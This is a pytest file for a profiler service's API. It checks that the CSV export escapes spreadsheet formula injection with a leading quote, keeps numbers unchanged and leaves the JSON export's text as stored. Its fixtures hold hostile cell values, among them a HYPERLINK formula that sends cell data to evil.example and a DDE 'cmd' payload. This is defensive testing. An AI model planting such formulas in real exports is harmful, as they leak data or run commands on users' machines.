"""The CSV export of ``GET /v1/table`` never hands a spreadsheet a formula: a text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``; plain numbers stay numbers (routers/table.py)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from latency_db.models import Measurement
from latency_db.transactions import write_session
from profiler_service.api.routers.table import csv_cell
from tests.profiler_service.conftest import SMALL_OPS

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
HOSTILE = {  # what another device sharing the database could have stored in the text columns of two rows
    SMALL_OPS[0]: {"flagged": HYPERLINK, "protocol_version": "@SUM(A1:A9)", "env_hash": "-1.5"},
    SMALL_OPS[1]: {"flagged": "+1+cmd|' /C calc'!A0", "protocol_version": "-2+3", "env_hash": "\tcmd"},
}


@pytest.fixture
def hostile_rows(client: TestClient) -> TestClient:
    stored = client.post("/v1/measure", json={"backend": "ort-cpu", "ops": SMALL_OPS[:2], "wait_s": 60})
    assert stored.status_code == 200 and stored.json()["status"] == "done", stored.text
    with write_session(client.app.state.service.sessions) as session:
        for spec, values in HOSTILE.items():
            session.execute(update(Measurement).where(Measurement.op_spec == spec).values(**values))
    return client


def test_formulas_are_escaped_and_numbers_kept(hostile_rows: TestClient) -> None:
    answer = hostile_rows.get("/v1/table", params={"format": "csv"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["x-content-type-options"] == "nosniff"
    rows = {row["op_spec"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    first, second = rows[SMALL_OPS[0]], rows[SMALL_OPS[1]]
    assert first["flagged"] == "'" + HYPERLINK and first["protocol_version"] == "'@SUM(A1:A9)"
    assert first["env_hash"] == "-1.5"  # a negative number stays a number
    assert second["flagged"] == "'+1+cmd|' /C calc'!A0" and second["protocol_version"] == "'-2+3"
    assert second["env_hash"] == "'\tcmd"
    for row in rows.values():
        assert float(row["median_ms"]) > 0 and row["batch"] == "1"  # numbers as they were
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())


def test_the_json_export_keeps_the_stored_text(hostile_rows: TestClient) -> None:
    rows = {row["op_spec"]: row for row in hostile_rows.get("/v1/table").json()["measurements"]}
    assert rows[SMALL_OPS[0]]["flagged"] == HYPERLINK  # JSON is data, not a sheet: nothing to escape


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-A1", "'-A1"), ("@cmd", "'@cmd"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("-1.5", "-1.5"), ("+2", "+2"), ("-.5e-3", "-.5e-3"), ("-3", "-3"),
    (-1.5, -1.5), (0, 0), (None, None), ("conv_r16x16_c3-8_k3_s1_relu6", "conv_r16x16_c3-8_k3_s1_relu6"),
    ("a=1", "a=1"),
])
def test_csv_cell(value: object, written: object) -> None:
    assert csv_cell(value) == written
